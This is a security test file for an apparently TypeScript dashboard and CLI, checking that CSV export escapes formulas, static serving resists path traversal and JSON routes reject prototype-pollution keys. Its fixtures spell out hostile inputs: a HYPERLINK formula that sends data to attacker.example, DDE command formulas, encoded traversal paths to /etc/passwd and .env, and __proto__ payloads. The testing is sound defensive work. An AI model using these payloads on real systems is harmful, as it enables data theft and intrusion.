/**
 * Exports are safe: CSV output neutralises spreadsheet formulas (unit property and through the CLI), static files
 * cannot be read from outside the dashboard folder, JSON bodies cannot pollute prototypes.
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { withDatabase } from '../../src/db/Database'
import { parseCsv, toCsv } from '../../src/ingest/csv'
import { createAlertRule } from '../../src/services/alerts'
import { runChokepoint } from '../helpers/cli'
import { tempDir } from '../helpers/tmp'
import { expectNoPrototypePollution, fuzzParams, fuzzRuns, fuzzSeed } from './support/fuzz'
import { TOKEN, initialisedDb, isErrorShape, testApp } from './support/server'

const tmp = tempDir('chokepoint-exports-')
afterAll(() => tmp.remove())

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
]

/** What a spreadsheet would see in each cell: the CSV parsed back. */
function cellsOf(csv: string): string[][] {
  const t = parseCsv(csv, 'out.csv')
  if (!t.ok) throw new Error(`toCsv wrote malformed CSV: ${t.error[0]?.message}`)
  return [t.value.header, ...t.value.records.map((r) => r.fields)]
}

describe('CSV exports neutralise formulas', () => {
  it('prefixes cells starting with = + - @ tab or CR, keeps plain numbers', () => {
    const cells = cellsOf(
      toCsv(
        ['value'],
        [...FORMULAS, '-5', '-0.25', '1e-3', 'plain'].map((v) => [v])
      )
    )
    expect(cells.slice(1).map((r) => r[0])).toEqual([
      ...FORMULAS.map((f) => `'${f}`),
      '-5',
      '-0.25',
      '1e-3',
      'plain',
    ])
  })

  const seed = fuzzSeed('toCsv')
  const runs = fuzzRuns(500)
  it(`any cell round-trips, and no cell a spreadsheet reads starts a formula (seed ${seed}, ${runs} runs)`, () => {
    const cell = fc.oneof(
      fc.string(),
      fc.constantFrom(...FORMULAS),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b),
      fc.double({ noNaN: true }),
      fc.constant(null)
    )
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { maxLength: 6 }),
        (rows) => {
          const cells = cellsOf(toCsv(['a', 'b'], rows))
          expect(cells).toHaveLength(rows.length + 1)
          rows.forEach((row, i) =>
            row.forEach((v, k) => {
              const out = cells[i + 1]?.[k] ?? ''
              const text = v === null ? '' : String(v)
              const numeric = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(text)
              if (/^[=+\-@\t\r]/.test(text) && !numeric) expect(out).toBe(`'${text}`)
              else expect(out).toBe(text)
              expect(/^[=+@\t\r]/.test(out) || (/^-/.test(out) && !numeric)).toBe(false)
            })
          )
        }
      ),
      fuzzParams(seed, runs)
    )
  })

  it('through the CLI: alert names that look like formulas come out inert in --format csv', async () => {
    const dbPath = await initialisedDb(tmp.file('cli-csv.duckdb'))
    await withDatabase(dbPath, {}, async (db) => {
      for (const name of FORMULAS.slice(0, 5))
        await createAlertRule(
          db,
          { name, kind: 'throttling', product: 'magnets' },
          '2026-11-28T00:00:00Z'
        )
    })
    const list = await runChokepoint(['alerts', 'list', '--db', dbPath, '--format', 'csv'])
    expect(list.code).toBe(0)
    const cells = cellsOf(list.stdout)
    const col = cells[0]?.indexOf('name') ?? -1
    expect(cells.slice(1).map((r) => r[col])).toEqual(FORMULAS.slice(0, 5).map((f) => `'${f}`))
  })
})

describe('static files stay inside their folder', () => {
  const web = tmp.file('web')
  const SECRET = 'SECRET-OUTSIDE-WEBDIR'
  let app: Awaited<ReturnType<typeof testApp>>['app']
  beforeAll(async () => {
    mkdirSync(join(web, 'assets'), { recursive: true })
    writeFileSync(join(web, 'index.html'), '<!doctype html><title>dashboard</title>')
    writeFileSync(join(web, 'assets', 'app.js'), 'console.log(1)')
    writeFileSync(join(web, '.env'), `TOKEN=${SECRET}`)
    writeFileSync(tmp.file('secret.txt'), SECRET)
    writeFileSync(tmp.file('web-secret.txt'), SECRET) // shares the folder name as a prefix
    app = (await testApp({ dbPath: await initialisedDb(tmp.file('static.duckdb')), webDir: web }))
      .app
  })
  afterAll(() => app.close())

  it('serves the dashboard and its assets', async () => {
    expect((await app.inject({ url: '/' })).body).toContain('<title>dashboard</title>')
    expect((await app.inject({ url: '/assets/app.js' })).body).toBe('console.log(1)')
    expect((await app.inject({ url: '/some/client/route' })).body).toContain('dashboard')
  })

  const attempts = [
    '/../secret.txt',
    '/%2e%2e/secret.txt',
    '/%2e%2e%2fsecret.txt',
    '/..%2fsecret.txt',
    '/..%5csecret.txt',
    '/assets/..%2f..%2fsecret.txt',
    '/assets/%2e%2e/%2e%2e/secret.txt',
    '/%252e%252e/secret.txt',
    '/.%2e/secret.txt',
    '/%c0%ae%c0%ae/secret.txt',
    '/..%00/secret.txt',
    '/index.html%00.txt',
    '/../web-secret.txt',
    '/%2e%2e/web-secret.txt',
    '//etc/passwd',
    '/.env',
    '/%2eenv',
    '/assets/../.env',
  ]
  it.each(attempts)('GET %s does not leak a file from outside (or a dotfile)', async (url) => {
    const r = await app.inject({ url })
    expect(r.body).not.toContain(SECRET)
    expect(r.body).not.toContain('root:')
    expect(r.statusCode).toBeLessThan(500)
  })
})

describe('JSON bodies cannot pollute prototypes', () => {
  let app: Awaited<ReturnType<typeof testApp>>['app']
  beforeAll(async () => {
    app = (await testApp({ dbPath: await initialisedDb(tmp.file('proto.duckdb')), token: TOKEN }))
      .app
  })
  afterAll(() => app.close())

  const bodies = [
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"name":"x","kind":"throttling","product":"magnets","__proto__":{"polluted":"yes"}}',
    '{"shipments":[{"id":"a","constructor":{"prototype":{"polluted":"yes"}}}]}',
    '[{"part_id":"p","__proto__":{"polluted":"yes"}}]',
  ]
  const routes = [
    '/api/alerts',
    '/api/optimize',
    '/api/exposure',
    '/api/licence/determinations',
    '/api/floor',
  ]
  for (const url of routes) {
    it.each(bodies)(`POST ${url} %s is refused with 400 forbidden_key`, async (body) => {
      const r = await app.inject({
        method: 'POST',
        url,
        payload: body,
        headers: { 'content-type': 'application/json', authorization: `Bearer ${TOKEN}` },
      })
      expect(r.statusCode).toBe(400)
      expect(isErrorShape(r.json())).toBe(true)
      expect(r.json().error.details.issues[0].code).toBe('forbidden_key')
      expectNoPrototypePollution()
    })
  }

  it('the same keys in text bodies (JSON read by the importers and readers) pollute nothing', async () => {
    const cases = [
      { url: '/api/imports/controls', body: '[{"id":"x","__proto__":{"polluted":"yes"}}]' },
      { url: '/api/licence/determinations', body: '[{"id":"a","__proto__":{"polluted":"yes"}}]' },
      {
        url: '/api/exposure',
        body: '[{"part_id":"p","constructor":{"prototype":{"polluted":"yes"}}}]',
      },
      { url: '/api/optimize', body: '{"__proto__":{"polluted":"yes"},"materials":[]}' },
    ]
    for (const c of cases) {
      const r = await app.inject({
        method: 'POST',
        url: c.url,
        payload: c.body,
        headers: { 'content-type': 'text/plain', authorization: `Bearer ${TOKEN}` },
      })
      expect(r.statusCode, `${c.url} ${r.body}`).toBeLessThan(500)
      expectNoPrototypePollution()
    }
  })
})
